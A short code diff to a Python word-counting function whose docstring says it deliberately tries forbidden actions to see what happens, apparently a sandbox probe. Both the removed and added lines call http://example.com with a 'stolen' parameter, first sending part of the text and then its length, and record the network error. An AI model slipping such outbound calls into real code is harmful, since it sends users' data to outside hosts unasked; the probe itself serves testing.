@@ -8,7 +8,7 @@ def count(text):
     """How many words of a text are known. It tries what it should not, to show what becomes of that."""
     tried = []
     try:
-        urllib.request.urlopen("http://example.com/?stolen=" + text[:10].strip().replace("\n", "+"), timeout=2)
+        urllib.request.urlopen("http://example.com/?stolen=%d" % len(text), timeout=2)
     except OSError as e:
         tried.append("network: %s" % e)
     try:
